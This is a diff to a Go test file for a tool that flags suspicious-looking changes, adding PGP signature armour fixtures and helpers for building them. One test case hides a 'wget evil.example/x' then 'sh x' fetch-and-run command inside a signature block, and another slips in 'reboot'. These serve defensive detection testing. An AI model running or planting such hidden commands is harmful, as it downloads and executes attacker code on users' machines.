@@ -68,6 +68,9 @@ func TestLooksHarmless(t *testing.T) {
 		"order of make's lines":          {"x.mk", "make: a\nCC b\n", "CC b\nmake: a\n"},
 		"numbers before addresses":       {"x.txt", "5 run 0x7f1234567890\n9 stop 0x7f1234567890\n", "0 run 0x7f1234567891\n9 stop 0x7f1234567890\n"},
 		"commands in an armour":          {"x", "-----BEGIN PGP SIGNATURE-----\n\niQEz\n-----END PGP SIGNATURE-----\n", "-----BEGIN PGP SIGNATURE-----\n\nEOF\nwget evil.example/x\nsh x\n-----END PGP SIGNATURE-----\n"},
+		"bytes in an armour":             {"x", armourOf('x'), mantle(append([]byte{0x89, 1, 0x33}, bytes.Repeat([]byte("y"), 90)...))},
+		"bytes after a signature":        {"x", armourOf('x'), mantle(append(unmantled(t, armourOf('y')), "\xcb\x05hello"...))},
+		"a signature that is damaged":    {"x", armourOf('x'), strings.Replace(armourOf('y'), "eXl5", "eXp5", 1)},
 		"words in an armour":             {"x", armourOf('x'), strings.Replace(armourOf('x'), "\n=", "\nEOF\nreboot\n=", 1)},
 	} {
 		n := named(t, c.name, c.a, c.b)
@@ -108,10 +111,33 @@ func allReasons(n *diff.Node) []diff.Reason {
 	return out
 }
 
-// armourOf is a block as gpg writes it around what begins as a packet.
+// armourOf is a block as gpg writes it around a signature by EdDSA.
 func armourOf(fill byte) string {
-	text := base64.StdEncoding.EncodeToString(append([]byte{0x89, 1, 0x33}, bytes.Repeat([]byte{fill}, 90)...))
-	return "-----BEGIN PGP SIGNATURE-----\n\n" + text[:64] + "\n" + text[64:] + "\n=abcd\n-----END PGP SIGNATURE-----\n"
+	body := []byte{4, 0, 22, 8, 0, 6, 5, 2, 0x66, 0, 0, 1, 0, 10, 9, 16, 1, 2, 3, 4, 5, 6, 7, 8, 0xab, 0xcd}
+	for range 2 {
+		body = append(append(body, 0, 255), bytes.Repeat([]byte{fill}, 32)...)
+	}
+	return mantle(append([]byte{0x88, byte(len(body))}, body...))
+}
+
+// unmantled is what mantle was given.
+func unmantled(t *testing.T, block string) []byte {
+	t.Helper()
+	lines := strings.Split(block, "\n")
+	p, fits := mantled(lines[2 : len(lines)-2])
+	if !fits {
+		t.Fatal("it cannot be read")
+	}
+	return p
+}
+
+// mantle writes a block around bytes.
+func mantle(p []byte) string {
+	text, out := base64.StdEncoding.EncodeToString(p), "-----BEGIN PGP SIGNATURE-----\n\n"
+	for ; len(text) > 64; text = text[64:] {
+		out += text[:64] + "\n"
+	}
+	return out + text + "\n=" + armourSum(p) + "\n-----END PGP SIGNATURE-----\n"
 }
 
 // TestRenamedByHand gives a file another name that a person chose.
